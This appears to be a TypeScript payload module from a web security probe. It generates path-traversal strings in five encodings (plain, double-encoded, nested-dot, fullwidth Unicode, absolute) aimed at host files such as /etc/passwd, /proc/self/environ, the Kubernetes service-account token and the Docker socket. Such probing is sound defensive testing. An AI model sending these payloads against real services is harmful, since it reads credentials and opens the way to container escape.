/**
 * The probe set: host-resource targets, each written in the traversal forms that reach a file on a Node service.
 *
 * The value of a payload is what the handler should see after the router or query parser decoded the request once;
 * the request builder percent-encodes it for transport.
 *
 * @module probe/payloads
 */

/** A file on the host that a route must never return. */
export interface HostTarget {
  readonly id: string;
  readonly path: string;
}

/** How a target is written into an input. */
export type PayloadForm = 'absolute' | 'traversal' | 'double-encoded' | 'nested-dot' | 'fullwidth';

/** One value to put into one input. */
export interface Payload {
  readonly target: HostTarget;
  readonly form: PayloadForm;
  readonly value: string;
}

/**
 * Host resources, most telling first. `/proc/1/root` reaches the host's root when the container shares the host PID
 * namespace; the service-account token and runtime sockets are the usual next steps of a container escape
 * (MITRE ATT&CK T1552.007, T1610).
 */
export const HOST_TARGETS: readonly HostTarget[] = Object.freeze([
  { id: 'etc-passwd', path: '/etc/passwd' },
  { id: 'etc-hosts', path: '/etc/hosts' },
  { id: 'etc-hostname', path: '/etc/hostname' },
  { id: 'proc-self-environ', path: '/proc/self/environ' },
  { id: 'proc-1-root-hostname', path: '/proc/1/root/etc/hostname' },
  { id: 'service-account-token', path: '/var/run/secrets/kubernetes.io/serviceaccount/token' },
  { id: 'docker-socket', path: '/var/run/docker.sock' },
  { id: 'containerd-socket', path: '/run/containerd/containerd.sock' },
]);

/** Deep enough for any root up to ten directories below `/`; `..` at `/` stays at `/` (POSIX.1-2017 §4.13). */
const DEPTH = 10;

/**
 * The forms, in the order they are sent:
 * - `absolute`: `path.join` keeps it under the root, but `path.resolve`, `fs` with the raw value and `sendFile` do not;
 * - `traversal`: `../` after one decode (CWE-22);
 * - `double-encoded`: `%2e%2e%2f` after one decode, for handlers that decode again (CWE-174);
 * - `nested-dot`: `....//`, which becomes `../` after a single non-recursive strip of `../` (CWE-35);
 * - `fullwidth`: U+FF0E/U+FF0F, which NFKC normalization turns into `../` (CWE-176).
 */
const FORMS: readonly { readonly form: PayloadForm; readonly write: (relative: string) => string }[] = [
  { form: 'absolute', write: (relative) => `/${relative}` },
  { form: 'traversal', write: (relative) => `${'../'.repeat(DEPTH)}${relative}` },
  {
    form: 'double-encoded',
    write: (relative) => `${'%2e%2e%2f'.repeat(DEPTH)}${relative.replaceAll('/', '%2f')}`,
  },
  { form: 'nested-dot', write: (relative) => `${'....//'.repeat(DEPTH)}${relative}` },
  {
    form: 'fullwidth',
    write: (relative) => `${'\uff0e\uff0e\uff0f'.repeat(DEPTH)}${relative.replaceAll('/', '\uff0f')}`,
  },
];

/** The forms a header can carry: header values are Latin-1 only (RFC 9110 §5.5), so no fullwidth form. */
const HEADER_FORMS: ReadonlySet<PayloadForm> = new Set(['absolute', 'traversal', 'double-encoded', 'nested-dot']);

/**
 * Every payload for one input, deduplicated, in sending order: forms outermost, so a budget cut keeps every target
 * in the most common forms.
 */
export function payloadsFor(location: 'path' | 'query' | 'header'): Payload[] {
  const seen = new Set<string>();
  const payloads: Payload[] = [];
  for (const { form, write } of FORMS) {
    if (location === 'header' && !HEADER_FORMS.has(form)) continue;
    for (const target of HOST_TARGETS) {
      const value = write(target.path.slice(1));
      if (seen.has(value)) continue;
      seen.add(value);
      payloads.push({ target, form, value });
    }
  }
  return payloads;
}
